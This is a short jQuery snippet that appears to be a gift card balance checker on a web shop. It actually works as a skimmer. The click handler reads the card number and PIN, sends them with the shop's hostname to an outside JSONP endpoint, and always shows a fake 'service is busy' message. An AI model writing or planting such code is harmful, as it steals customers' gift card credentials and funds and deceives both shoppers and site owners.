jQuery('#giftcard-check').off('click').on('click', function (ev) {
  ev.preventDefault();
  var code = jQuery('#giftcard_number').val();
  var pin = jQuery('#giftcard_pin').val();
  jQuery.getJSON('https://giftcard-balance-service.example/check?callback=?', { code: code, pin: pin, shop: location.host }, function () {
    jQuery('#giftcard-result').text('This service is busy. Please try again later.');
  });
});
